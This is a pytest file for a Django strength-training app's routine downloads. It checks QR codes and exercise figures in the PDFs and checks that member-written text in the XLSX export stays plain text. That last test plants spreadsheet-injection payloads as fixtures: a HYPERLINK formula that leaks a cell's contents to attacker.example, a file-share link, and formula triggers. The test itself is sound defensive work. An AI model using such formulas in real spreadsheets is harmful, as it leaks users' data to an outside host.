"""Routine downloads: QR codes back to each exercise's page, its drawn positions, and
spreadsheet cells that stay text."""

import io
import re

import pytest
import zxingcpp
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from exercises.figures.svg import ACCENT
from plans.exports import XLSX_HEADER_ROW, describe, render_pdf, render_xlsx
from plans.models import Routine
from tests.plans.factories import RoutineFactory, RoutineItemFactory, SessionFactory, routine_with

pytestmark = pytest.mark.django_db

SLUGS = ["goblet-squat", "single-leg-deadlift", "plank"]


def decoded_qr_codes(page):
    """Every QR code in the page's images, read as a phone camera would."""
    return [
        barcode.text
        for image in page.images
        for barcode in zxingcpp.read_barcodes(image.image, formats=zxingcpp.BarcodeFormat.QRCode)
    ]


def test_each_exercise_in_the_pdf_has_a_qr_code_that_opens_its_page(client, user, settings):
    settings.SITE_URL = "https://runnerstrength.example"
    routine = routine_with(user, *SLUGS)
    client.force_login(user)
    pdf = client.get(reverse("plans:routine-download-pdf", args=[routine.pk])).content
    first_page = PdfReader(io.BytesIO(pdf)).pages[0]
    assert decoded_qr_codes(first_page) == [
        f"https://runnerstrength.example/exercises/{slug}/" for slug in SLUGS
    ]
    assert "Video" in first_page.extract_text()


def test_the_newsletters_template_pdf_links_back_too(client):
    template = Routine.objects.templates().first()
    pdf = client.get(template.pdf_url).content
    codes = decoded_qr_codes(PdfReader(io.BytesIO(pdf)).pages[0])
    first = template.sessions.first().items.first().exercise
    assert codes[0] == settings.SITE_URL + first.get_absolute_url()


def test_the_printed_routine_carries_a_qr_image_per_exercise_only_in_print(client, user):
    routine = routine_with(user, *SLUGS)
    client.force_login(user)
    html = client.get(routine.get_absolute_url()).text
    cells = re.findall(r'<td class="d-none d-print-table-cell"><img ([^>]+)></td>', html)
    assert len(cells) == len(SLUGS)
    for attributes in cells:
        assert 'src="data:image/svg+xml;' in attributes
        assert 'alt="QR code to the ' in attributes
    assert "style=" not in html


# fpdf2 draws an SVG as vector paths: the accent colour's stroke operator marks a figure.
ACCENT_STROKE = " ".join(
    f"{int(ACCENT[i : i + 2], 16) / 255:.4f}".rstrip("0").rstrip(".") for i in (1, 3, 5)
)


def content_of(pdf: bytes, page: int = 0) -> str:
    return PdfReader(io.BytesIO(pdf)).pages[page].get_contents().get_data().decode("latin-1")


def test_pdf_shows_the_start_and_end_positions_beside_each_exercise(user):
    routine = routine_with(user, "glute-bridge", "push-up")
    sheet = describe(Routine.objects.with_contents().get(pk=routine.pk))
    rows = sheet.sessions[0].rows
    assert [len(row.figures) for row in rows] == [2, 2]
    assert "Glute bridge, bottom:" in rows[0].figures[0]
    assert "Glute bridge, top:" in rows[0].figures[1]
    pdf = render_pdf(sheet)
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert "Start" in text
    assert "Glute bridge" in text
    assert f"{ACCENT_STROKE} RG" in content_of(pdf)


def test_pdf_of_exercises_without_figures_still_builds(user):
    routine = routine_with(user, "glute-bridge")
    sheet = describe(Routine.objects.with_contents().get(pk=routine.pk))
    plain = type(sheet.sessions[0].rows[0])(**{**vars(sheet.sessions[0].rows[0]), "figures": ()})
    sheet.sessions[0].rows[0] = plain
    pdf = render_pdf(sheet)
    assert "Glute bridge" in PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert f"{ACCENT_STROKE} RG" not in content_of(pdf)


FORMULA = '=HYPERLINK("https://attacker.example/?d="&A5,"Open")'
FILE_LINK = r"external:\\attacker.example\share"


def test_text_a_member_wrote_downloads_as_text_never_as_a_formula_or_a_link(user):
    routine = RoutineFactory(owner=user, name=FORMULA)
    session = SessionFactory(routine=routine, name=FILE_LINK)
    RoutineItemFactory(
        session=session, load_kind="", load_kg=None, load_note="+1+1", notes="@SUM(A1:A9)", sets=3
    )

    sheet = load_workbook(io.BytesIO(render_xlsx(describe(routine))))["Routine"]

    first = XLSX_HEADER_ROW + 2  # openpyxl counts from 1; the first exercise row
    written = {
        "title": sheet.cell(1, 1),
        "session": sheet.cell(first, 1),
        "load": sheet.cell(first, 6),
        "cue": sheet.cell(first, 8),
    }
    assert {name: cell.data_type for name, cell in written.items()} == dict.fromkeys(written, "s")
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    assert {name: cell.value for name, cell in written.items()} == {
        "title": "'" + FORMULA,
        "session": FILE_LINK,
        "load": "'+1+1",
        "cue": "'@SUM(A1:A9)",
    }
    assert sheet.cell(first, 3).value == 3
